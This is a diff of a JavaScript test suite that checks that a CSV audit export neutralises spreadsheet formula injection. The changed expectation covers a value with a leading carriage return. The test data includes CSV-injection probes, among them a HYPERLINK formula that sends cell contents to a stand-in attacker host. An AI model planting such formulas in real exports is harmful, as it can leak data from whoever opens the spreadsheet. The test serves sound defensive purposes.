@@ -166,8 +166,8 @@ describe('audit export (CSV)', () => {
     expect(probes.map((r) => [r['ticket'], r['reason'], r['userEmail']])).toEqual([
       [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1", "'-2"],
       ["'@x", 'line one\nline two' + 'end', "'=cmd"],
-      // A lone CR becomes a line feed inside the quoted cell, behind the apostrophe.
-      ['ok', "'\n=1+1", 'ab@example.no'],
+      // A leading CR is dropped and the formula behind it still neutralised.
+      ['ok', "'=1+1", 'ab@example.no'],
     ]);
     // JSON already writes NUL as the six characters \u0000: inert text.
     expect(probes[2]!['details']).toBe('{"note":"=2+3\\u0000"}');
